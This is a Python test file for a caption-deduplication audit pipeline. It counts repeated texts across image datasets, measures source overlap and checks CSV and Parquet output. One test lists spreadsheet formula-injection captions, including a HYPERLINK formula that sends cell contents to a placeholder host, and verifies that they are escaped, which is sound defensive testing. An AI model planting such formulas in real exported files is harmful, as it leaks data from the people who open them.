"""Repeated texts and overlapping sources: counted by hand, in any order and grouping."""

from __future__ import annotations

import codecs
import csv
import io
import random
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pmd.audit.counting import overlap, repeated
from pmd.audit.counting.measure import STAGES
from pmd.audit.figures import tables
from pmd.dedupe import captions
from tests.audit.batches import batch, pair


def flickr(number: int, text: str, user: str, image: str | None = None) -> dict[str, Any]:
    return pair("yfcc100m", str(number), text, image=image, meta={"uid": user})


def world() -> list[tuple[dict[str, Any], str]]:
    """One text on 12 photographs of one user (two lost after curate) and one of another's; its like on 10 of SBU; and rest."""
    rows = [(flickr(number, f"IMG_{number}.JPG", "u"), "shard" if number > 1 else "curate") for number in range(12)]
    rows.append((flickr(12, "img 99, jpg", "v"), "shard"))
    rows.append((flickr(13, "IMG 13 jpg", "u", image="yfcc100m/0"), "curate"))  # the same photograph as number 0
    signed = "photo taken by {} on assignment for the daily planet, all rights reserved, please do not use"
    rows += [
        (pair("sbu_captions", str(number), signed.format("Ann" if number < 5 else "Bob"), meta={}), "dedupe")
        for number in range(20)
    ]
    rows += [
        (pair("coco", str(number), f"img {number} jpg" if number < 9 else "a dog"), "shard") for number in range(12)
    ]
    return rows


def summarised(rows: list[tuple[dict[str, Any], str]], bits: int) -> dict[str, Any]:
    pairs = batch([row for row, _ in rows])
    found = repeated.occurrences(pairs, pa.array([last for _, last in rows]))
    assert found.schema == repeated.OCCURRENCES
    where = found.column("text").to_numpy() % 2**bits
    tables = [
        repeated.count(pa.Table.from_batches([found.filter(pa.array(where == partition))]))
        for partition in range(2**bits)
    ]
    assert {table.schema for table in tables} == {repeated.TEXTS}
    return repeated.summary(pa.concat_tables(tables[::-1]))


@pytest.mark.parametrize("least", [1, 2, 3, 4, 5])
def test_texts_on_as_many_images_as_it_takes_are_counted_whatever_that_is(
    monkeypatch: pytest.MonkeyPatch, least: int
) -> None:
    monkeypatch.setattr(repeated, "FREQUENT", least)
    texts = ["a dog", "a dog", "a dog", "a cat"]
    rows = [(pair("coco", str(number), text), "shard") for number, text in enumerate(texts)]
    found = repeated.occurrences(batch([row for row, _ in rows]), pa.array([last for _, last in rows]))
    counted = repeated.count(pa.Table.from_batches([found]))
    assert sorted({*counted["form"].to_pylist()}) == [
        form for form, number in (("a cat", 1), ("a dog", 3)) if number >= least
    ]


def test_texts_of_one_form_have_one_number() -> None:
    """Of ASCII no form is made: whatever forms leave out or change, the number must not tell."""
    dice = random.Random(3)
    marks = [chr(code) for code in range(128)] + list("éÉe\u0301ßﬁＡａ\u00a0\u2003²٣—“’ñŁ")
    words = ["", "IMG", "img", "Dsc", "0", "1234", " ", "  ", "x", *marks]
    texts = pa.array(["".join(dice.choices(words, k=dice.randrange(7))) for _ in range(20_000)], pa.string())
    numbers: dict[str, set[int]] = {}
    for form, number in zip(captions.forms(texts).to_pylist(), repeated.letters(texts).tolist(), strict=True):
        numbers.setdefault(form, set()).add(number)
    assert len(numbers) > 5_000
    assert {len(some) for some in numbers.values()} == {1}
    assert len({number for some in numbers.values() for number in some}) > 3_000


def test_numbers_of_texts_are_those_of_all_workers() -> None:
    texts = pa.array(["", "12 !?", "A dog.", "a  DOG 7", "god A", "Été", "ete"])
    found = repeated.letters(texts).tolist()
    assert found[:2] == [0, 0]
    assert found[2] == found[3] == found[4] != found[5]
    assert found[5] == found[6]
    assert repeated.letters(texts.slice(2, 3)).tolist() == found[2:5]
    assert repeated.letters(texts.slice(0, 0)).tolist() == []
    assert found[2] == 2_913_655_643


def test_only_texts_that_may_be_repeated_are_handed_on() -> None:
    rows = world()
    pairs, last = batch([row for row, _ in rows]), pa.array([one for _, one in rows])
    numbers = pa.table([repeated.letters(pairs.column("text"))], schema=repeated.LETTERS)
    known = repeated.often(numbers)
    assert known.schema == repeated.OFTEN
    some = repeated.occurrences(pairs, last, known=known.column(0).to_numpy())
    whole = repeated.occurrences(pairs, last)
    assert some.num_rows == sum("dog" not in row["text"] and "Ann" not in row["text"] for row, _ in rows)
    tables = [repeated.count(pa.Table.from_batches([found])) for found in (some, whole)]
    assert tables[0] == tables[1]
    assert tables[0].num_rows
    nothing = repeated.occurrences(pairs, last, known=known.column(0).to_numpy()[:0])
    assert (nothing.num_rows, nothing.schema) == (0, repeated.OCCURRENCES)


@pytest.fixture(scope="module")
def summary() -> dict[str, Any]:
    return summarised(world(), 2)


def pairs_by_threshold(figures: dict[str, Any], key: str = "pairs") -> list[int]:
    assert [row["images"] for row in figures["shared_by"]] == [10, 100, 1000]
    return [row[key] for row in figures["shared_by"]]


def test_images_count_and_pairs_are_told(summary: dict[str, Any]) -> None:
    flickr = summary["sources"]["yfcc100m"]
    assert flickr["curate"]["largest"] == [{"text": "img 0 jpg", "images": 13, "pairs": 14, "users": 2}]
    assert flickr["shard"]["largest"] == [{"text": "img 0 jpg", "images": 11, "pairs": 11, "users": 2}]
    assert pairs_by_threshold(flickr["curate"]) == [14, 0, 0]
    assert pairs_by_threshold(flickr["shard"]) == [11, 0, 0]


def test_what_one_user_repeats(summary: dict[str, Any]) -> None:
    flickr = summary["sources"]["yfcc100m"]
    assert pairs_by_threshold(flickr["curate"], "one_user_pairs") == [13, 0, 0]
    assert pairs_by_threshold(flickr["shard"], "one_user_pairs") == [10, 0, 0]
    assert "one_user_pairs" not in summary["sources"]["coco"]["curate"]["shared_by"][0]


def test_a_text_on_few_images_of_a_source_counts_where_others_have_it_too(summary: dict[str, Any]) -> None:
    assert pairs_by_threshold(summary["sources"]["coco"]["curate"]) == [0, 0, 0]
    flickr = {"source": "yfcc100m", "text": "img 0 jpg", "images": 13, "pairs": 14}
    assert summary["all"]["curate"]["largest"][0] == {"text": "img 0 jpg", "images": 22, "pairs": 23, "parts": [flickr]}
    assert pairs_by_threshold(summary["all"]["curate"]) == [38, 0, 0]


def test_near_duplicates_count_as_one(summary: dict[str, Any]) -> None:
    sbu = summary["sources"]["sbu_captions"]["dedupe"]
    assert pairs_by_threshold(sbu) == [15, 0, 0]
    # Ann's text stands on five images only: too few to be compared.
    assert pairs_by_threshold(sbu["near"]) == [15, 0, 0]
    more = [*world(), *((pair("sbu_captions", f"b{number}", world()[14][0]["text"]), "dedupe") for number in range(5))]
    near = summarised(more, 0)["sources"]["sbu_captions"]["dedupe"]["near"]
    assert pairs_by_threshold(near) == [25, 0, 0]
    assert near["largest"] == [
        {
            "text": "photo taken by bob on assignment for the daily planet all rights reserved please do not use",
            "images": 25,
            "pairs": 25,
            "texts": 2,
            "members": [
                f"photo taken by {name} on assignment for the daily planet all rights reserved please do not use"
                for name in ("ann", "bob")
            ],
        }
    ]


def test_order_and_partitions_change_nothing(summary: dict[str, Any]) -> None:
    rows = world()
    random.Random(3).shuffle(rows)
    assert summarised(rows, 0) == summary
    assert summarised(rows, 5) == summary


def test_nothing_repeated() -> None:
    nothing = repeated.summary(repeated.TEXTS.empty_table())
    assert nothing["sources"] == {}
    assert nothing["all"] == dict.fromkeys(STAGES, repeated.NOTHING_REPEATED)


def test_overlap() -> None:
    parts = [
        [["coco"], ["coco", "visual_genome"], ["sbu_captions"]],
        [["coco", "sbu_captions", "visual_genome"], ["visual_genome"], ["coco"]],
    ]
    counts = [overlap.count(pa.chunked_array([part], pa.list_(pa.string()))) for part in parts]
    found = overlap.matrix(counts)
    assert found == overlap.matrix(counts[::-1])
    assert found["images"] == 6
    assert [tuple(row.values()) for row in found["by_source"]] == [
        ("coco", 4, 2),
        ("sbu_captions", 2, 1),
        ("visual_genome", 3, 1),
    ]
    assert found["pairs_of_sources"] == [
        {"sources": ["coco", "sbu_captions"], "images": 1, "shares": [1 / 4, 1 / 2]},
        {"sources": ["coco", "visual_genome"], "images": 2, "shares": [2 / 4, 2 / 3]},
        {"sources": ["sbu_captions", "visual_genome"], "images": 1, "shares": [1 / 2, 1 / 3]},
    ]
    assert overlap.matrix([])["images"] == 0


@pytest.mark.parametrize("caption", ['=HYPERLINK("http://a.example/"&A1)', "@SUM(1)", "+1", "-1+2", "\uff1d1+1"])
def test_no_caption_is_a_formula_in_a_table(caption: str, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [{"source": "wit", "stage": "shard", "text": text, "images": 3} for text in (caption, "a = b", None)]
    table = pa.Table.from_pylist(rows, tables.SCHEMAS["repeated.largest"])
    monkeypatch.setattr(tables, "tables", lambda content: {"repeated.largest": table})
    written = dict(tables.files({}))
    read = [*csv.DictReader(io.StringIO(written["tables/repeated.largest.csv"].decode("utf-8-sig"), newline=""))]
    assert [row["text"] for row in read] == [f"'{caption}", "a = b", ""]
    assert pq.read_table(io.BytesIO(written["tables/repeated.largest.parquet"]))["text"].to_pylist()[0] == caption


def test_tables_are_read_as_they_are_by_spreadsheets_and_pandas(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [{"source": "yfcc100m", "stage": "shard", "country": country, "pairs": 3} for country in ("NA", "CI")] + [
        {"source": "à moi", "stage": "shard"}
    ]
    table = pa.Table.from_pylist(rows, tables.SCHEMAS["countries.shares"])
    monkeypatch.setattr(tables, "tables", lambda content: {"countries.shares": table})
    written = dict(tables.files({}))["tables/countries.shares.csv"]
    assert written.startswith(codecs.BOM_UTF8), "by which Excel knows UTF-8"
    read = pd.read_csv(io.BytesIO(written), keep_default_na=False, na_values=[""])
    assert [*read.columns] == table.column_names
    assert read.country.tolist()[:2] == ["NA", "CI"]
    assert read.source.tolist() == ["yfcc100m", "yfcc100m", "à moi"]
